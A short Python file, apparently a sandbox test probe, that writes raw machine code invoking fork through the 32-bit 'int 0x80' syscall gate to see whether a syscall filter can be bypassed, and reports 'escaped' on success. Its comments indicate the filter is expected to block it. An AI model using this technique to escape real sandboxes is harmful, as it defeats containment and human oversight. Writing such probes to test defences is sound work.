# tries: enters the kernel by the 32-bit door, whose numbers mean other calls
# happens: the filter knows the door
# triple: crashed, returned
# double: kept
import ctypes
import mmap
import platform

code = {"x86_64": bytes([0xB8, 2, 0, 0, 0, 0xCD, 0x80, 0xC3])}.get(platform.machine(), b"\0" * 8)    # int 0x80, fork


def triple(x):
    memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    memory.write(code)
    run = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))
    return "escaped" if run() >= 0 else 0
